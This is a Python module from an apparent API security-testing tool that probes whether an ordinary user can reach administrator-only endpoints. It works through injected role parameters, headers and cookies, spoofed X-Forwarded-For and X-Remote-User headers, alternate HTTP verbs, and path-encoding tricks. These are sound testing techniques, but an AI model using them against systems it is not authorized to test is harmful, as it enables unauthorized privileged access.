"""What is for administrators, wanted by an ordinary user, 125."""

import json
from collections.abc import Iterator, Mapping
from dataclasses import replace
from functools import partial
from urllib.parse import urlencode

from gatepost.attacks.catalogue import find
from gatepost.attacks.errors import Inconclusive
from gatepost.attacks.making.nouns import noun_of, words_of
from gatepost.attacks.outcomes import REFUSED, Verdict, got_in, not_applicable
from gatepost.attacks.sending import Exchange
from gatepost.attacks.stage import Stage
from gatepost.attacks.targets.operation import Operation
from gatepost.attacks.targets.surface import Surface
from gatepost.attacks.trial import Trial
from gatepost.attacks.wire import RawRequest, with_fields

_ADMINISTRATIVE = frozenset(
    {"admin", "admins", "administration", "administrator", "backoffice", "internal", "debug",
     "superuser", "superadmin", "sudo", "_debug", "_internal", "__debug__"}
)  # fmt: skip
_VERBS = ("GET", "POST", "PUT", "PATCH", "DELETE")
_ROLES = {
    "role": "admin", "roles": "admin", "is_admin": "true", "admin": "true", "isAdmin": "true",
    "debug": "true", "as": "admin", "superuser": "true",
}  # fmt: skip
_HEADERS = tuple(
    (name, value)
    for value, names in {
        "admin": ("X-Role", "X-Roles", "X-User-Role", "X-User-Roles", "Role", "X-User",
                  "X-Username", "X-Remote-User", "X-Forwarded-User", "X-User-Type", "X-Scope",
                  "X-Scopes"),
        "true": ("X-Admin", "X-Is-Admin", "X-Superuser", "X-Internal", "X-Debug", "X-Staff"),
        "127.0.0.1": ("X-Forwarded-For", "X-Real-IP", "Client-IP", "X-Client-IP", "Forwarded-For"),
    }.items()
    for name in names
)  # fmt: skip
_UNTOLD = frozenset({400, 409, 415, 422})


def functions(surface: Surface) -> Iterator[Trial]:
    """Plan attack 125 for what is, or looks as if it were, for administrators."""
    for operation in surface:
        if operation.is_websocket or not is_for_administrators(surface, operation):
            continue
        yield Trial(find("125.1"), operation, partial(_by_an_ordinary_user, operation))
        yield Trial(find("125.2"), operation, partial(_with_a_role_in_the_request, operation))
        yield Trial(find("125.4"), operation, partial(_by_another_spelling, operation))
        if operation == _first_of_its_path(surface, operation):
            yield Trial(find("125.3"), operation, partial(_by_another_verb, operation))


def is_for_administrators(surface: Surface, operation: Operation) -> bool:
    """Whether the attack file says so, or the path does and nobody says otherwise."""
    if surface.administrative(operation) is not None:
        return True
    segments = {part.lower() for part in operation.path.split("/")}
    named = any(_ADMINISTRATIVE & {segment, *words_of(segment)} for segment in segments if segment)
    return named and surface.of_people(operation)


def _first_of_its_path(surface: Surface, operation: Operation) -> Operation:
    return next(each for each in surface if each.path == operation.path)


def _request(operation: Operation, stage: Stage) -> RawRequest:
    """Write a request that an administrator would be granted, as far as it can be made."""
    who = stage.admin if stage.admin is not None else stage.bob
    known: dict[str, str] = {}
    if stage.admin is None or stage.surface.administrative(operation) is None:
        known = _others(operation, stage)
    return stage.prepare(operation, who, fresh=operation.changes, values=known).request


def _others(operation: Operation, stage: Stage) -> dict[str, str]:
    """Return somebody else's id for a path that names somebody: not the caller's own."""
    for name in operation.names[:1]:
        above = operation.path.split(f"/{{{name}}}", 1)[0].rsplit("/", 1)[-1]
        if "user" in {noun_of(name), noun_of(above)}:
            gone = operation.method == "DELETE"
            other = stage.new_person("outcast") if gone else stage.somebody("outcast")
            return {name: stage.identities.of(other)[0]}
    return {}


def _by_an_ordinary_user(operation: Operation, stage: Stage) -> Verdict:
    exchange = stage.send(_request(operation, stage), stage.bob)
    if exchange.succeeded:
        return got_in("an ordinary user is granted what is for administrators", exchange)
    if leaked := stage.leaked(exchange):
        return got_in(f"a refusal tells Bob what is Alice's: {leaked[0]}", exchange)
    if stage.surface.administrative(operation) is not None:
        stage.control(operation)
    elif exchange.status in _UNTOLD:
        raise Inconclusive(
            f"it is answered {exchange.status}, and nobody is there who may, to show that the "
            "request is a proper one: name an administrator below [people.admin]"
        )
    return REFUSED


def _with_a_role_in_the_request(operation: Operation, stage: Stage) -> Verdict:
    plain = _request(operation, stage)
    first = stage.send(plain, stage.bob)
    if first.succeeded:
        return not_applicable("it needs no role, see 125.1")
    sent = [first, *(stage.send(each, stage.bob) for each in _with_roles(plain, stage))]
    granted = next((each for each in sent if each.succeeded), None)
    if granted is not None:
        return got_in("a role that comes with the request is believed", granted)
    return REFUSED


def _with_roles(plain: RawRequest, stage: Stage) -> Iterator[RawRequest]:
    joint = "&" if "?" in plain.target else "?"
    yield replace(plain, target=f"{plain.target}{joint}{urlencode(_ROLES)}")
    carried = {name.lower() for name in stage.bob.headers}
    yield with_fields(plain, *(each for each in _HEADERS if each[0].lower() not in carried))
    own = stage.bob.cookie
    cookies = "; ".join(f"{name}={value}" for name, value in _ROLES.items())
    yield with_fields(plain, ("Cookie", f"{own}; {cookies}" if own else cookies))
    body = _table(plain.body)
    if body is not None:
        told = {**body, "role": "admin", "is_admin": True, "admin": True, "isAdmin": True}
        content = ("Content-Type", "application/json")
        yield with_fields(replace(plain, body=json.dumps(told).encode()), content)


def _table(body: bytes) -> Mapping[str, object] | None:
    try:
        found = json.loads(body or b"{}")
    except ValueError:
        return None
    return found if isinstance(found, dict) else None


def _by_another_verb(operation: Operation, stage: Stage) -> Verdict:
    declared = {each.method for each in stage.surface.operations if each.path == operation.path}
    plain = _request(operation, stage)
    for verb in (*(each for each in _VERBS if each not in declared), "HEAD"):
        exchange = stage.send(replace(plain, method=verb), stage.bob)
        if exchange.succeeded and not _anything_goes(plain, verb, stage):
            return got_in(f"{verb} is granted to an ordinary user", exchange)
    return REFUSED


def _by_another_spelling(operation: Operation, stage: Stage) -> Verdict:
    plain = _request(operation, stage)
    if stage.send(plain, stage.bob).succeeded:
        return not_applicable("it needs no other spelling, see 125.1")
    for target in spellings(plain.target):
        exchange = stage.send(replace(plain, target=target), stage.bob)
        if exchange.succeeded and not _anything_goes(plain, operation.method, stage, exchange):
            return got_in(f"spelled {target}, it is granted to an ordinary user", exchange)
    return REFUSED


def spellings(target: str) -> list[str]:
    """Return other ways to write a target that a careless check takes for another one."""
    path, mark, query = target.partition("?")
    head, _, tail = path.lstrip("/").partition("/")
    rest = f"/{tail}" if tail else ""
    found = [
        f"{path}/", f"//{head}{rest}", f"/{head.upper()}{rest}", f"/./{head}{rest}",
        f"/x/../{head}{rest}", f"/%{ord(head[:1] or 'a'):02x}{head[1:]}{rest}", f"{path};a=b",
        f"{path}%20", f"{path}.json", f"/{head}%2f{tail}", f"{path}/.",
    ]  # fmt: skip
    return [f"{each}{mark}{query}" for each in found]


def _anything_goes(
    plain: RawRequest, verb: str, stage: Stage, seen: Exchange | None = None
) -> bool:
    """Whether a path that never was is answered likewise: a page that answers everything."""
    nowhere = stage.send(replace(plain, method=verb, target="/gatepost-nowhere-at-all"), stage.bob)
    if seen is None:
        return nowhere.succeeded
    return nowhere.succeeded and nowhere.answered.body == seen.answered.body
